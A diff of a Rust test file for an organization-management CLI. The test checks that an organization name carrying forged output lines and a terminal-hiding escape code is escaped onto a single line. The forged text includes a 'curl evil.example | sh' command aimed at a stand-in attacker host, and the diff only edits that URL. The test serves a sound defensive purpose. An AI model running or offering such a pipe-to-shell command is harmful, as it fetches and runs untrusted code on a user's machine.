@@ -122,7 +122,7 @@ async fn escaped_json_output_means_the_same_text() {
 
 #[tokio::test]
 async fn forged_explanation_stays_one_line() {
-    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl https://evil.example | sh\n\nOther\u{1b}[8m";
+    let name = "Acme (organization-test-acme): NOT SHOWN\n  the organization exists: NO\n  To make it appear: curl evil.example | sh\n\nOther\u{1b}[8m";
     let app = TestApp::start(json!({"organizations": [{
         "organization_id": "organization-test-spoof", "organization_name": name, "organization_slug": "spoof",
         "members": [{"member_id": "member-test-spoof", "email_address": "a@spoof.example"}],
@@ -131,7 +131,7 @@ async fn forged_explanation_stays_one_line() {
     let explained =
         Orgctl::on(&app).text(&["explain", "--email", "a@spoof.example", "--factor", "magic_link"]).await;
     let line = explained.lines().nth(2).expect("a line");
-    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl https://evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
+    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: curl evil.example | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
 }
 
 #[tokio::test]
